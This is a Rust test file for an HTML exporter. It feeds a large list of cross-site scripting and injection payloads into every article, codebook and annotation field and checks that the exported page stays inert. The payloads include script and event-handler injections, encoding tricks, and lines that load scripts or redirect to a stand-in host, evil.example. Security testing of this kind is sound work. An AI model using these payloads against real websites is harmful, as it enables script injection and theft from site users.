//! Hostile text in every field: the page stays a page.

use std::sync::Arc;

use super::dom::Dom;
use crate::export::samples::{annotation, article, codebook, local, reading};
use crate::export::{ExportContext, ExportInput, ExportOptions, Format, export};
use crate::i18n::{Catalogue, Lang};
use crate::model::*;

/// Ways out of text, attributes, comments, style and title, and what to run once out.
fn payloads() -> Vec<String> {
    let exits = [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        ">",
        "</p>",
        "</title>",
        "</style>",
        "</textarea>",
        "</script>",
        "-->",
        "]]>",
        "\\\">",
        "&quot;>",
        "`>",
        "\u{0}\">",
        "\n\">",
        "*/",
        "}",
    ];
    let runs = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        " onmouseover=alert(1) x=\"",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
    ];
    let alone = [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "#\" onfocus=alert(1) autofocus \"",
        "<!--",
        "<!-- <img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<object data=//evil.example/x>",
        "<embed src=//evil.example/x>",
        "<form action=//evil.example><input type=submit>",
        "<style>@import url(//evil.example/x.css);</style>",
        "red;}</style><script>alert(1)</script>",
        "expression(alert(1))",
        "url(javascript:alert(1))",
        "<details open ontoggle=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "\u{ff1c}script\u{ff1e}alert(1)",
        "\u{202e}<script>\u{202c}",
        "\u{2028}<script>\u{2029}",
        "\u{feff}<b>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "+ADw-script+AD4-alert(1)",
        "<a\tonclick=alert(1)>",
        "<a/onclick=alert(1)>",
        "<b\u{c}onclick=alert(1)>",
        "<\u{0}script>alert(1)",
        "<scr\u{0}ipt>alert(1)</script>",
        "<table><tr><td><p></table>",
        "<select><option><script>alert(1)",
        "<frameset onload=alert(1)>",
        "<body onload=alert(1)>",
        "<html onclick=alert(1)>",
    ];
    let crossed = exits
        .iter()
        .flat_map(|exit| runs.iter().map(move |run| format!("{exit}{run}")));
    crossed.chain(alone.map(str::to_owned)).collect()
}

/// What a browser shows of a text: forbidden characters replaced, carriage returns as line feeds.
fn shown(text: &str) -> String {
    let forbidden = super::super::markup::is_forbidden;
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    text.chars()
        .map(|c| if forbidden(c) { '\u{fffd}' } else { c })
        .collect()
}

#[test]
fn hostile_text_is_inert_in_every_field() {
    let payloads = payloads();
    assert!(payloads.len() >= 150, "{}", payloads.len());
    let catalogue = Catalogue::new(Lang::Fr);
    for payload in &payloads {
        let text = format!("{payload}\n\nUn {payload} deux.\n");
        let mut article = article(&format!("{payload}.txt"), &text);
        let p = || payload.clone();
        article.meta = ArticleMeta {
            title: Some(p()),
            outlet: Some(p()),
            author: Some(p()),
            published: Some(p()),
            address: Some(p()),
            language: Some(p()),
            ..ArticleMeta::default()
        };
        let mut codebook = codebook();
        codebook.id = p();
        codebook.revision = p();
        codebook.hash = p();
        codebook.title = local(payload, payload);
        codebook.statuses[0].name = local(payload, payload);
        let label = &mut codebook.labels[0];
        label.name = local(payload, payload);
        label.letter = local(payload, payload);
        label.definition = local(payload, payload);
        label.color = p();
        let mut reading = reading(&article, payload);
        reading.codebook.id = p();
        let end = article.text.len();
        for (number, (key, from)) in [("fact", 0), (payload, 3), ("loaded", 5)]
            .into_iter()
            .enumerate()
        {
            let range = article.text.clamp(from..end - from);
            let mut span = annotation(&article, number as u128, key, range);
            span.reason = p();
            span.voice = Voice::Source(p());
            let status = if number == 0 { "unverified" } else { payload };
            span.claim = Some(Claim {
                restatement: p(),
                status: status.to_owned(),
            });
            if number == 2 {
                span.anchor.quote = format!("absent {payload}").into();
            }
            reading.spans.insert(Arc::new(span));
        }
        let context = ExportContext {
            catalogue: &catalogue,
            now: crate::export::samples::NOW.parse().unwrap(),
            version: payload,
            options: ExportOptions::default(),
        };
        let elsewhere = Default::default();
        let input = ExportInput {
            article: &article,
            readings: vec![&reading],
            elsewhere: &elsewhere,
            codebook: &codebook,
        };
        let file = export(Format::Html, &context, &[input]).remove(0);
        assert!(
            !file.name.contains(['/', '\\', '<', '"', '\n', '\0']),
            "{}",
            file.name
        );
        let dom = Dom::new(&file.bytes);
        dom.check_is_inert_and_linked();
        assert_eq!(
            dom.text_of("text"),
            shown(article.text.as_str()),
            "{payload}"
        );
        assert_eq!(dom.text_of("reason"), shown(payload.trim()), "{payload}");
    }
}
